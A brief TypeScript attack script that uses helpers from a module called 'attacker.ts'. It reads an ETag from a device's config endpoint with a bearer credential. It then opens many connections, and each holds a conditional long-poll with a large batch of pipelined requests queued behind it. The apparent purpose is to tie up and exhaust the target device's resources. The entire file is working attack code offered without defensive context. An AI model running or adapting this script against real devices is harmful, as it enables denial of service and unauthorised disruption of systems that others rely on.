import { args, inPlace, open } from './attacker.ts';

/* Each connection holds a poll, and pipelines as many requests behind it as the bytes of a few packets can carry. */
const { device, credential, connections, pipelined } = args();
const poll = (more: string): string =>
  `GET /device/v1/config HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${credential}\r\n${more}\r\n`;
const first = await open(device, { reads: true });
const etag = await new Promise<string>((resolve) => {
  first.on('data', (answer: Buffer) => resolve(/\r\netag: ([^\r]+)/i.exec(answer.toString('latin1'))?.[1] ?? ''));
  first.write(poll(''));
});
for (let number = 0; number < connections; number += 1) {
  const socket = await open(device, { reads: true });
  const held = poll(`If-None-Match: ${etag}\r\nPrefer: wait=50\r\n`);
  socket.write(held + 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(pipelined));
}
inPlace();
